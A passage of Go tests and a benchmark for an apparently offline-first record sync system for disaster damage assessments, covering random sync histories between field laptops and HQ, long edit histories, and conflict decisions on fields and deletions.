			types := slices.Sorted(maps.Keys(add))
			type rec struct {
				id  syncproto.RecordID
				typ string
			}
			var records []rec
			for step := range 60 {
				n := nodes[rng.IntN(len(nodes))]
				switch op := rng.IntN(10); {
				case op < 3 && len(records) < 8 || len(records) == 0:
					typ := types[rng.IntN(len(types))]
					records = append(records, rec{mustAdd(t, n, typ, add[typ]()), typ})
				case op < 7:
					r := records[rng.IntN(len(records))]
					e := edits[r.typ][rng.IntN(len(edits[r.typ]))]
					if _, err := n.Update(ctx, r.id, []byte(e()), "vol-193"); err != nil && !errors.Is(err, store.ErrNotFound) {
						t.Fatal(err)
					}
				case op == 7:
					r := records[rng.IntN(len(records))]
					del := n.Delete
					if rng.IntN(2) == 0 {
						del = n.Restore
					}
					if err := del(ctx, r.id, "vol-193"); err != nil && !errors.Is(err, store.ErrNotFound) {
						t.Fatal(err)
					}
				default:
					carry(t, hq, laptop)
					carry(t, laptop, hq)
				}
				for _, n := range nodes {
					checkReport(t, n, fmt.Sprintf("step %d", step))
				}
			}
			carry(t, hq, laptop)
			carry(t, laptop, hq)
			checkReport(t, hq, "at the end")
			conflicts += walkReport(t, hq).Total.Conflicts
		})
	}
	// The histories did make conflicts.
	if conflicts == 0 {
		t.Error("no history ended with a record in conflict")
	}
}

// A record a laptop edited 20,000 times, read whole (Record, as `record
// show` and the record's screen read it) and as a match, the live feed and
// the feature API read it (RecordBrief).
func BenchmarkRecordOfALongHistory(b *testing.B) {
	ctx := context.Background()
	n := benchHQ(b)
	id, err := n.Add(ctx, "damage-assessment", []byte(assessment), "vol-1")
	if err != nil {
		b.Fatal(err)
	}
	r, err := n.Record(ctx, id)
	if err != nil {
		b.Fatal(err)
	}
	lane := syncproto.MakeLane(3, schemas.DistrictScope("Cayo"))
	edits := make([]store.Edit, 20000)
	for i := range edits {
		v, _ := syncproto.Marshal(int64(i%50 + 1))
		edits[i] = store.Edit{Record: id, Lane: lane, Kit: r.Kit, Type: r.Type, Version: 1, Author: "vol-1",
			Fields: []syncproto.FieldChange{{Name: "household_size", Value: v}}}
	}
	if err := node.WriteEdits(n, ctx, edits); err != nil {
		b.Fatal(err)
	}
	b.Run("whole", func(b *testing.B) {
		for b.Loop() {
			if v, err := n.Record(ctx, id); err != nil || len(v.History) != 20001 {
				b.Fatalf("%d changes, %v", len(v.History), err)
			}
		}
	})
	b.Run("brief", func(b *testing.B) {
		for b.Loop() {
			if v, err := n.RecordBrief(ctx, id); err != nil || len(v.History) != 1 {
				b.Fatalf("%d changes, %v", len(v.History), err)
			}
		}
	})
}

// A person decides a field in conflict between the versions they saw:
// Decide replaces those. Where the field's versions are others by then,
// it writes nothing and says so (ErrUnseen), so that no version is
// replaced unseen; the app shows the record again.
func TestADecisionReplacesOnlyTheVersionsSeen(t *testing.T) {
	ctx := context.Background()
	n := openNode(t, "cayo-laptop-07", syncproto.RoleField, "Cayo")
	id := conflict(t, n)
	v, err := n.Record(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	sawLevel, sawNotes := v.Heads["damage_level"], v.Heads["notes"]
	// Meanwhile, another decision of the level, with other versions in
	// sight.
	mustUpdate(t, n, id, `{"damage_level":3}`)
	if _, err := n.Decide(ctx, id, "damage_level", 4, sawLevel, "ana"); !errors.Is(err, node.ErrUnseen) {
		t.Fatalf("deciding between versions no longer there: %v, want ErrUnseen", err)
	}
	if v, _ := n.Record(ctx, id); v.Fields["damage_level"] != int64(3) {
		t.Fatalf("the level after a refused decision: %v (%T), want 3 as it stood", v.Fields["damage_level"], v.Fields["damage_level"])
	}
	if _, err := n.Decide(ctx, id, "notes", "walked through", sawNotes, "ana"); err != nil {
		t.Fatal(err)
	}
	if v, _ := n.Record(ctx, id); v.Fields["notes"] != "walked through" || len(v.Conflicts) != 0 {
		t.Fatalf("notes %v, conflicts %v; want decided", v.Fields["notes"], v.Conflicts)
	}
	if _, err := n.Decide(ctx, id, syncproto.DeletedField, "yes", nil, "ana"); err == nil {
		t.Fatal("a deletion decided as \"yes\" was taken")
	}
}

// A record deleted on one laptop while another restored it is in conflict
// on whether it stands, whichever won: it is listed among the records in
// conflict, as the status counts it, for a person to decide. Before, a
// deletion that won took the record, and its conflict, out of the list of
// conflicts and HQ's queue, though the status still counted it.
func TestADeletedRecordInConflictIsListedAsInConflict(t *testing.T) {
	ctx := context.Background()
	n := openNode(t, "cayo-laptop-07", syncproto.RoleField, "Cayo")
	// The other laptop's clock runs a minute ahead: its deletion wins.
	other := cayoPeer(t, n, time.Minute)
	id := mustAdd(t, n, "damage-assessment", `{"district":"Cayo","village":"Succotz","lat":17.1,"lon":-89.1,
		"structure_type":"thatch","damage_level":1,"household_size":4,"reported_by":"vol-1","reported_at":"2026-11-27T10:00:00Z"}`)
	if err := n.Delete(ctx, id, "ana"); err != nil {
		t.Fatal(err)
	}
	carry(t, n, other)
	if err := n.Restore(ctx, id, "ana"); err != nil {
		t.Fatal(err)
	}
	if err := other.Delete(ctx, id, "ben"); err != nil {
		t.Fatal(err)
	}
	carry(t, other, n)
	v, err := n.Record(ctx, id)
	if err != nil || len(v.Conflicts[syncproto.DeletedField]) != 2 {
		t.Fatalf("the record: deleted %v, conflicts %v (%v); want its deletion in conflict", v.Deleted, v.Conflicts, err)
	}
	var listed []string
	for r, err := range n.Records(ctx, node.Query{OnlyConflict: true}) {
		if err != nil {
			t.Fatal(err)
		}
		listed = append(listed, r.ID)
	}
	st, err := n.Status(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(listed) != 1 || listed[0] != id.String() || st.Conflicts != 1 {
		t.Fatalf("records listed in conflict: %v; the status counts %d; want the deleted record, once", listed, st.Conflicts)
	}
}
